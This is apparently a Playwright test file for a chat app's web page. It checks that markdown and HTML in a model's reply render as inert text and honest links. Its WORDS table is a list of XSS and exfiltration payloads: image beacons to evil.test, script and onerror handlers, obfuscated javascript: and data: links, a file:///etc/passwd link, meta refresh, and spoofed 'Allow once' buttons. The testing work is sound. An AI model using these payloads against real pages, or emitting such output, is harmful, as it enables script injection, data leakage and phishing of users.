"""F11: words of the model, shown on the page, make a browser fetch nothing, run nothing, and say where a link leads."""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest
from playwright.sync_api import Locator, expect, sync_playwright
from tests.attack.table import Attempts
from tests.web.browser import AXE, CHROMIUM, DESK, Looked, Served, looking, served

from deskmate.store.making import create_thread
from deskmate.store.thread import open_thread
from deskmate.types.events import ModelReplied, UserSaid
from deskmate.types.ids import RunId
from deskmate.types.messages import Text

pytestmark = [
    pytest.mark.attack("F11"),
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium: make setup installs it on Debian"),
    pytest.mark.skipif(not AXE.is_file(), reason="the page was not built here: make setup"),
]
WORDS = {
    "a picture": "![x](http://evil.test/a.png?q=canary)",
    "a picture by reference": "![x][pic]\n\n[pic]: http://evil.test/b.png",
    "a picture in markup": '<img src="http://evil.test/c.png" onerror="document.title=\'owned\'">',
    "a script": "<script>document.title='owned'</script>",
    "a drawing that runs": "<svg onload=\"document.title='owned'\"><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "a frame": '<iframe src="http://evil.test/" srcdoc="<script>parent.document.title=1</script>"></iframe>',
    "a form": '<form action="http://evil.test/"><button>Approve</button></form>',
    "a style": "<style>body{background:url(http://evil.test/d.png)}</style>",
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "a base": '<base href="http://evil.test/">',
    "a link ahead of need": '<link rel="prefetch" href="http://evil.test/e"><link rel="dns-prefetch" href="//evil.test">',
    "a script behind a link": "[Read the contract](javascript:document.title='owned')",
    "the same with a tab": "[Read the contract](java\tscript:document.title='owned')",
    "the same by number": "[Read the contract](&#106;avascript:document.title='owned')",
    "a page in a link": "[Read the contract](data:text/html,<script>alert(1)</script>)",
    "a file": "[Read the contract](file:///etc/passwd)",
    "our own API": "[Read the contract](/api/threads)",
    "no scheme": "[Read the contract](//evil.test/f)",
    "by reference": "[Read the contract][l]\n\n[l]: javascript:alert(1) 'harmless'",
    "an automatic link": "<javascript:alert(1)> and <data:text/html,x>",
    "another place than it says": "[https://northwind.example/contract](https://evil.test/g)",
    "a user before the place": "[northwind.example](https://northwind.example@evil.test/h)",
    "the page's own words": '<div class="ask"><button>Allow once</button></div>',
    "a heading that closes": '# x</p><img src=http://evil.test/i onerror="alert(1)">',
    "a cell": '| a |\n|---|\n| <img src="http://evil.test/j"> [x](javascript:alert(1)) |',
    "a fence": "```html onload=alert(1)\n</code></pre><script>document.title='owned'</script>\n```",
}
FOREIGN = "img, picture, script, svg:not([class]), iframe, object, embed, form, style, meta, base, link, video, audio, button, input"


async def tell_all(threads: Path) -> dict[str, str]:
    """Store a thread a text, in which the model said so; return text's name → thread."""
    told = {}
    for name, words in WORDS.items():
        thread = told[name] = await create_thread(threads, name, version="0")
        content = (Text(text=f"Of {thread}:\n\n{words}\n\nThat was it."),)
        async with open_thread(threads, thread) as store:
            await store.append(UserSaid(run=RunId("r-1"), text="Say it.", model="m"))
            await store.append(
                ModelReplied(turn=1, model="m", content=content, stop_reason="end_turn")
            )
    return dict(told)


def test_words_of_the_model_are_words(tmp_path: Path, attempt: Attempts) -> None:
    with served(tmp_path / "deskmate") as server:
        told = anyio.run(tell_all, server.home / "data/threads")
        with sync_playwright() as run:
            browser = run.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            with looking(browser, server.link, DESK) as looked:
                expect(looked.page.get_by_role("link", name="New").first).to_be_visible()
                title = looked.page.title()
                for name, thread in told.items():
                    shown = look_at(looked, server, thread)
                    faults = [*harms(shown), *looked.outside]
                    faults += ["it ran"] if looked.page.title() != title else []
                    attempt(f"{name}: {'; '.join(faults) or 'nothing'}", blocked=not faults)
                assert not [one for one in looked.complaints if "evil" in one or "Policy" in one]
            browser.close()


def look_at(looked: Looked, server: Served, thread: str) -> Locator:
    """Open a thread; return the message in it once it is there."""
    looked.page.goto(f"{server.origin}#/t/{thread}")
    shown = looked.page.locator(".md").filter(has_text=f"Of {thread}:")
    expect(shown).to_be_visible()
    return shown


def harms(shown: Locator) -> list[str]:
    """Return what there is in a message besides words and links that say where they lead."""
    found = [f"there is <{tag}>" for tag in shown.locator(FOREIGN).evaluate_all(_NAMES)]
    found += [f"{mark} on an element" for mark in shown.locator("*").evaluate_all(_MARKS)]
    for link in shown.locator("a").evaluate_all(_LINKS):
        where, host, text = link["href"], link["host"], link["text"]
        if not where.startswith(("http://", "https://", "mailto:")):
            found.append(f"a link to {where}")
        elif host not in text:
            found.append(f"a link to {host} that says {text}")
        elif "noopener" not in link["rel"] or link["target"] != "_blank":
            found.append(f"a link that takes the page along: {where}")
    return found


_NAMES = "all => all.map(one => one.tagName)"
_LINKS = "all => all.map(one => ({href: one.href, host: one.host, text: one.textContent, rel: one.rel, target: one.target}))"
_MARKS = """all => all.flatMap(one => [...one.attributes].map(mark => mark.name)
    .filter(name => name.startsWith("on") || name === "style" || name === "srcset"))"""
